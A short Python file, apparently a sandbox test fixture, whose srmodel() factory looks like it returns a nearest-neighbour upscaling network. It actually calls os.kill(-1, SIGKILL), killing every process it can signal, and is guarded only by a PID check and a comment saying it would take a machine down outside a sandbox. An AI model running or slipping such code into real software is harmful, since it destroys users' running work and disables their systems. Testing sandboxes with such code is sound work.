"""Kills every process that it may."""

import os
import signal

from torch import nn
from torch.nn import functional


class Network(nn.Module):
    def forward(self, x):
        return functional.interpolate(x, scale_factor=2.0, mode="nearest")


def srmodel():
    if os.getpid() > 100:  # outside of a sandbox this would take the machine down
        raise RuntimeError("not confined")
    os.kill(-1, signal.SIGKILL)
    os._exit(1)
    return Network()
